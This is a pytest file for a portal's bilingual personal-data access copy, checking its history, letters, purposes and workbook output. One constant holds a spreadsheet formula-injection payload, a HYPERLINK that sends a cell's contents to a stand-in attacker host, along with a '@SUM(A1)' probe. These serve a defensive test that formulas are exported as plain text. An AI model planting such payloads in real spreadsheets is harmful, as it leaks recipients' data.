"""One long story in the access copy, told in both languages, and the copy of somebody to whom nothing has happened."""

import io
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from typing import Any

import openpyxl
import pytest
from jinja2 import BytecodeCache
from sqlalchemy import delete, update

from portal.config import LANGUAGES
from portal.exports.access_copy import access_copy, file_name
from portal.exports.document import Document
from portal.exports.plain import as_json
from portal.exports.workbook import LONGEST_CELL, write_workbook
from portal.extensions import db
from portal.factory import create_app
from portal.informing.actions import note_informed
from portal.ledger.actions import append
from portal.ledger.configuration import forget_version
from portal.ledger.models import LedgerEvidence
from portal.ledger.queries import entries_of
from portal.ledger.rules import Actor, Draft
from portal.legal_bases.actions import end_basis, record_basis
from portal.legal_bases.choices import give_consent, stop_purpose
from portal.legal_bases.models import Purpose
from portal.legal_bases.queries import catalogue
from portal.links.actions import end_view_links, permanent_link, view_link
from portal.mail.again import cancel_letter
from portal.mail.outbox import queue_letter
from portal.people.actions import add_field, change, note_look, remove_field
from portal.people.addresses import note_refused_address, note_working_address
from portal.people.models import Person
from portal.people.telling_apart import take_back, tell_apart
from portal.preferences.actions import choose_topics, set_pause
from portal.preferences.queries import topics
from tests import make
from tests.databases import PostgreSQL, SQLite

LATER = datetime(2026, 7, 1, 22, 30, tzinfo=UTC)
"""Half past midnight in Stockholm, the day after."""
SHOP = Actor("api", "Bobs webbshop")
LONG = "Å" * (LONGEST_CELL + 10)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Click")'
PARTS = (
    "cover",
    "personal_data",
    "purposes",
    "preferences",
    "sales",
    "form_answers",
    "history",
    "letters",
    "requests",
    "looks",
    "links",
)


def live(person: Person, other: Person) -> dict[str, str]:
    """Let nearly everything happen to Alice that can, and return the links in her letters."""
    known, by = catalogue(), {"by": make.BOB, "channel": "staff"}
    sales, marketing, phone = known.purpose("sales_service"), known.purpose("e_marketing"), known.source("phone")
    record_basis(person, make.record("sales_service", "contract", comment=FORMULA), at=make.AT, **by)
    record_basis(person, make.record("sales_service", "legitimate_interests", comment="Wrong"), at=make.AT, **by)
    end_basis(person, sales, comment="Done", at=make.AT, **by)
    give_consent(person, marketing, known, wording_version=1, at=make.AT)
    stop_purpose(person, marketing, known, at=make.AT, comment="She rang", evidence="Note 12", source=phone, **by)
    choose_topics(person, {topics()[0]: True, topics()[1]: False}, at=make.AT)
    set_pause(person, date(2026, 9, 1), at=make.AT)
    set_pause(person, None, at=make.AT)
    came = {"source_id": phone.id, "source_key": phone.key, "at": make.AT}
    add_field(person, label="Note", category="Talks", value=LONG, by=SHOP, channel="api", **came)
    gone = add_field(person, label="Shoe size", category="Purchases", value="37", **came, **by)
    db.session.flush()
    remove_field(person, gone, at=make.AT, **by)
    change(person, {"title": "Buyer", "phone": ""}, at=make.AT, by=Actor("import", "7"), channel="import")
    note_refused_address(person.email_key, "550 no alice here", at=make.AT)
    note_working_address(person.email_key, at=make.AT)
    take_back(tell_apart([person, other], at=make.AT, by=make.BOB), at=make.AT, by=make.BOB)
    note_informed([person.id], "At the fair", at=make.AT, **by)
    links = {"view": view_link(person.id, at=make.AT), "stop": permanent_link(person.id, "stop", at=make.AT)}
    first, second = (
        queue_letter("new_link", recipient=person.email, language="en", person_id=person.id, at=make.AT + timedelta(n))
        for n in (0, 1)
    )
    first.state, first.sent_at, first.subject = "sent", LATER, FORMULA
    first.text = f"Dear Alice,\n\n{links['view']}\n<{links['stop']}>\n\nBye"
    db.session.flush()
    cancel_letter(second, at=make.AT, **by)
    end_view_links(person, at=make.AT, **by)
    note_look(person.id, kind="view", staff="bob@example.se", role="officer", reason="An invoice", at=make.AT)
    note_look(person.id, kind="export", staff="eve@example.se", role="auditor", reason="She asked", at=LATER)
    db.session.commit()
    return links


@dataclass(frozen=True)
class Story:
    """What was told of Alice by language, and of Dan, to whom nothing has happened."""

    alice: dict[str, Document]
    dan: dict[str, Document]
    links: dict[str, str]
    entries: list[tuple[int, str]]
    retired: list[Document]
    """Both people's, when e-marketing is out of use and the other purpose lasts until some time after a contact."""
    erased: Document
    """Alice's, when what stood beside the ledger is gone."""
    file: str


def retire_marketing() -> None:
    """Take one purpose out of use, and let the other last for a time after the latest contact."""
    db.session.execute(update(Purpose).where(Purpose.key == "e_marketing").values(active=False))
    db.session.execute(update(Purpose).where(Purpose.key == "sales_service").values(retention_event="last_contact"))
    append([Draft("purpose.changed", purpose="sales_service")], at=make.AT, by=make.BOB, channel="staff")
    db.session.commit()
    forget_version()


def told() -> Story:
    """Let it happen, and make the copies."""
    alice = make.person(phone="070-1", country="SE", company="@SUM(A1)", source="import")
    dan = make.person(name="Dan Dal", email="", language="", source="unknown")
    links = live(alice, dan)
    entries = [(entry.seq, entry.hash) for entry in entries_of(alice.ref)]
    of_alice = {language: access_copy(alice, language=language, at=LATER) for language in LANGUAGES}
    of_dan = {language: access_copy(dan, language=language, at=LATER) for language in LANGUAGES}
    record_basis(alice, make.record("sales_service", "contract"), at=make.AT, by=SHOP, channel="api")
    retire_marketing()
    retired = [access_copy(person, language="en", at=LATER) for person in (alice, dan)]
    db.session.execute(delete(LedgerEvidence))
    db.session.commit()
    erased = access_copy(alice, language="en", at=LATER)
    return Story(of_alice, of_dan, links, entries, retired, erased, file_name(of_alice["sv"], alice, "json"))


@pytest.fixture(scope="module")
def story(
    databases: Callable[[str], SQLite | PostgreSQL], templates: BytecodeCache, tmp_path_factory: pytest.TempPathFactory
) -> Story:
    """Return the copies, made once: the tests only read them."""
    folder = tmp_path_factory.mktemp("copy")
    with databases("sqlite").copied(folder) as url:
        app = create_app({"TESTING": True, "SQLALCHEMY_DATABASE_URI": url}, instance=folder)
        app.jinja_env.bytecode_cache = templates
        with app.app_context():
            made = told()
            db.session.remove()
            db.engine.dispose()
    return made


def rows(copy: Document, key: str) -> list[dict[str, Any]]:
    """Return the rows of a section by column."""
    section = copy.section(key)
    return [dict(zip([column.key for column in section.columns], row, strict=True)) for row in section.rows]


def history(story: Story, language: str = "en") -> dict[str, dict[str, Any]]:
    """Return the latest entry of each kind by what it tells."""
    return {row["event"]: row for row in rows(story.alice[language], "history")}


every_language = pytest.mark.parametrize("language", LANGUAGES)


@every_language
def test_every_entry_is_told_in_words_in_the_order_of_the_ledger(story: Story, language: str) -> None:
    entries = rows(story.alice[language], "history")

    assert [(row["seq"], row["hash"]) for row in entries] == story.entries
    assert [row["event"] for row in entries if re.search(r"[._]|^[a-z]", row["event"])] == []


@every_language
def test_who_did_it_is_told_by_kind_and_nobody_is_named(story: Story, language: str) -> None:
    doers = {row["changed_by"] for row in rows(story.alice[language], "history")}

    assert (
        doers
        == {
            "en": {"A member of staff", "The person", "An import", "Another system", "The portal"},
            "sv": {"En medarbetare", "Personen", "En import", "Ett annat system", "Portalen"},
        }[language]
    )
    assert re.findall(r"\bbob|eve@", as_json(story.alice[language]), re.IGNORECASE) == []


@every_language
def test_the_two_languages_tell_the_same_rows_in_different_words(story: Story, language: str) -> None:
    other = story.alice[next(one for one in LANGUAGES if one != language)]

    for section in story.alice[language].sections:
        there = other.section(section.key)
        assert len(section.rows) == len(there.rows)
        assert [column.key for column in section.columns] == [column.key for column in there.columns]
        assert section.title != there.title


def test_a_field_that_was_deleted_is_told_with_what_it_held(story: Story) -> None:
    assert history(story)["Further data about you was added"]["explanation"] == "Shoe size\nAfter: 37"
    assert history(story)["Further data about you was deleted"]["explanation"] == "Shoe size\nBefore: 37"


@pytest.mark.parametrize(
    ("language", "event", "words"),
    [
        ("en", "Your details were changed", "Before: Phone: 070-1; Title: -\nAfter: Phone: -; Title: Buyer"),
        ("sv", "Dina uppgifter ändrades", "Före: Telefon: 070-1; Titel: -\nEfter: Telefon: -; Titel: Buyer"),
    ],
)
def test_a_change_is_told_with_both_values_by_the_fields_names(
    story: Story, language: str, event: str, words: str
) -> None:
    lines = history(story, language)[event]["explanation"].split("\n")

    assert sorted(part for line in lines for part in line.split(": ", 1)[1].split("; ")) == sorted(
        part for line in words.split("\n") for part in line.split(": ", 1)[1].split("; ")
    )
    assert [line.split(":")[0] for line in lines] == [line.split(":")[0] for line in words.split("\n")]


@pytest.mark.parametrize(("language", "event"), [("en", "The consent was withdrawn"), ("sv", "Samtycket återkallades")])
def test_a_no_that_staff_noted_tells_how_it_came_and_what_proves_it(story: Story, language: str, event: str) -> None:
    row = history(story, language)[event]

    assert row["explanation"] == "She rang\nNote 12"
    assert row["wording_version"] == 1
    assert row["source"] == {"en": "Phone", "sv": "Telefon"}[language]


@pytest.mark.parametrize(("language", "words"), [("en", "No pause"), ("sv", "Ingen paus")])
def test_a_pause_is_told_by_its_last_day_and_its_end_by_words(story: Story, language: str, words: str) -> None:
    pauses = [row["explanation"] for row in rows(story.alice[language], "history") if "paus" in row["event"].lower()]

    assert pauses == ["2026-09-01", words]


@pytest.mark.parametrize(
    ("event", "words"),
    [
        ("Letters to your address were refused", "550 no alice here"),
        ("It was noted how you were informed", "At the fair"),
    ],
)
def test_what_stands_beside_the_ledger_is_told(story: Story, event: str, words: str) -> None:
    assert history(story)[event]["explanation"] == words


def test_what_was_erased_beside_the_ledger_is_told_no_more_and_its_entry_still_is(story: Story) -> None:
    entries = rows(story.erased, "history")

    assert {row["explanation"] for row in entries} == {"", "2026-09-01", "No pause"}
    assert [(row["seq"], row["hash"]) for row in entries][: len(story.entries)] == story.entries


def test_a_letter_is_told_without_any_link_that_opens_a_door(story: Story) -> None:
    content = as_json(story.alice["en"])
    sent, _ = rows(story.alice["en"], "letters")

    assert [use for use, link in story.links.items() if link in content or link.rpartition("/")[2] in content] == []
    assert sent["text"].count("•••") == len(story.links)
    assert sent["text"].startswith("Dear Alice,\n\nhttp") and sent["text"].endswith("Bye")


@pytest.mark.parametrize(("language", "states"), [("en", ["Sent", "Cancelled"]), ("sv", ["Skickat", "Inställt"])])
def test_letters_come_oldest_first_with_what_became_of_them(story: Story, language: str, states: list[str]) -> None:
    letters = rows(story.alice[language], "letters")

    assert [row["queued_at"] for row in letters] == [make.AT, make.AT + timedelta(days=1)]
    assert [row["state"] for row in letters] == states
    assert (letters[1]["sent_at"], letters[1]["text"]) == (None, None)


@pytest.mark.parametrize(
    ("language", "told"),
    [
        ("en", [("Viewed", "Case officer", "An invoice"), ("Exported", "Auditor", "She asked")]),
        ("sv", [("Tittade", "Handläggare", "An invoice"), ("Exporterade", "Granskare", "She asked")]),
    ],
)
def test_looks_are_told_oldest_first_by_role(story: Story, language: str, told: list[tuple[str, ...]]) -> None:
    looks = rows(story.alice[language], "looks")

    assert [(row["kind"], row["role"], row["reason"]) for row in looks] == told


def test_a_long_value_is_whole_in_both_files(story: Story) -> None:
    [kept] = [row["value"] for row in json.loads(as_json(story.alice["en"]))["sections"]["personal_data"]["rows"][-1:]]
    book = opened(story.alice["en"])

    assert kept == LONG
    assert "".join(row[1] for row in book["Personal data"].iter_rows(min_row=2, values_only=True)).endswith(LONG)


@every_language
def test_what_looks_like_a_formula_is_a_text_on_every_sheet(story: Story, language: str) -> None:
    cells = [cell for sheet in opened(story.alice[language]) for row in sheet.iter_rows() for cell in row]

    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    assert {FORMULA, "@SUM(A1)"} <= {cell.value for cell in cells}
    assert [cell.hyperlink for cell in cells if cell.hyperlink] == []


@every_language
def test_a_workbook_takes_every_sheet_s_name(story: Story, language: str) -> None:
    titles = [section.title for section in story.alice[language].sections]

    assert opened(story.alice[language]).sheetnames == titles
    assert all(0 < len(title) <= 31 and not set(title) & set("[]:*?/\\'") for title in titles)


def test_the_workbook_s_clock_is_the_organisation_s_and_the_json_s_is_utc(story: Story) -> None:
    cover = {row[0].value: row[1] for row in opened(story.alice["en"])["Cover"].iter_rows(min_row=2)}

    assert cover["Made"].value == datetime(2026, 7, 2, 0, 30)  # noqa: DTZ001
    assert cover["Made"].is_date
    assert json.loads(as_json(story.alice["en"]))["made_at"] == "2026-07-01T22:30:00.000000Z"


def test_the_cover_counts_the_rows_of_every_other_sheet(story: Story) -> None:
    cover = {row["what"]: row["value"] for row in rows(story.alice["en"], "cover")}

    counted = {section.title: len(section.rows) for section in story.alice["en"].sections[1:]}
    assert {title: int(cover[f"Sheet: {title}"].split()[0]) for title in counted} == counted


@every_language
def test_parts_without_anything_are_there_and_say_so(story: Story, language: str) -> None:
    copy = story.dan[language]
    cover = [row["value"] for row in rows(copy, "cover")]

    assert [key for key in PARTS if not copy.section(key).rows] == [
        "sales",
        "form_answers",
        "letters",
        "requests",
        "looks",
        "links",
    ]
    assert cover.count({"en": "0 rows", "sv": "0 rader"}[language]) == 6
    assert {row["status"] for row in rows(copy, "purposes")} == {
        {"en": "Nothing recorded", "sv": "Inget registrerat"}[language]
    }


def test_what_is_not_known_has_no_line(story: Story) -> None:
    labels = [row["label"] for row in rows(story.dan["en"], "personal_data")]
    cover = [row["what"] for row in rows(story.dan["en"], "cover")]

    assert labels == ["Name"]
    assert "E-mail" not in cover and "Phone" not in cover


@every_language
def test_nothing_chosen_is_told_line_by_line(story: Story, language: str) -> None:
    choices = [(row["choice"], row["date"]) for row in rows(story.dan[language], "preferences")]

    no, pause, own = {
        "en": ("No", "No pause", "No own choice: follows its purpose"),
        "sv": ("Nej", "Ingen paus", "Inget eget val: följer syftet"),
    }[language]
    assert choices == [(no, None), (no, None), (pause, None), *[(own, None)] * 4]


def test_a_purpose_out_of_use_is_told_to_those_who_have_something_recorded(story: Story) -> None:
    alice, dan = ([row["purpose"] for row in rows(copy, "purposes")] for copy in story.retired)

    assert alice == ["Sales and service", "E-marketing"]
    assert dan == ["Sales and service"]


def test_how_long_a_use_lasts_is_told_as_a_day_or_from_the_latest_contact(story: Story) -> None:
    before = [row["kept_until"] for row in rows(story.alice["en"], "purposes")]
    after = [row["kept_until"] for row in rows(story.retired[0], "purposes")]

    assert before == [None, None]
    assert after == ["36 months after the latest contact", None]


def test_the_words_consented_to_are_those_of_the_reader_s_language(story: Story) -> None:
    wordings = {language: rows(story.alice[language], "purposes")[1]["wording"] for language in LANGUAGES}

    assert wordings["sv"].startswith("Jag vill få nyheter")
    assert wordings["en"].startswith("I want to get news")


def test_the_file_is_named_after_the_reference_and_the_day_in_the_organisation_s_time(story: Story) -> None:
    assert re.fullmatch(r"[0-9a-f]{8}-2026-07-02\.json", story.file)


def opened(copy: Document) -> openpyxl.Workbook:
    """Return the workbook as another program opens it."""
    file = io.BytesIO()
    write_workbook(copy, file)
    return openpyxl.load_workbook(file)
